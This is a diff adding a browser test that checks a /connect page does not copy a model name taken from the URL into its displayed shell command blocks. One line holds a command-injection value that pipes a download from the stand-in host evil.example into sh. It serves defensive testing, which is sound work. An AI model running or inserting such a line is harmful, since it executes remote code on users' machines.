@@ -75,4 +75,17 @@ describeInBrowser("what is asked again", () => {
     expect(await tab.page.locator("main tbody tr").count()).toBe(0);
     await tab.page.unrouteAll();
   });
+
+  test("a model that only the address names is in no block to copy", async () => {
+    const named = `x"}';curl -s evil.example|sh;#`;
+    for (const role of ["admin", "member"] as const) {
+      const own = role === "admin" ? tab : await signInAs(await newTab(node.url), node, role);
+      await own.visit(`/connect?model=${encodeURIComponent(named)}`);
+      const blocks = await own.page.locator("main pre").allTextContents();
+      expect(blocks.filter((text) => text.includes("sluice claude --model "))).toHaveLength(1);
+      expect(blocks.filter((text) => text.includes("evil"))).toEqual([]);
+      await own.visit("/connect?model=qwen/qwen3-32b");
+      expect(await own.page.locator("main pre", { hasText: "sluice claude --model qwen/qwen3-32b" }).count()).toBe(1);
+    }
+  });
 });
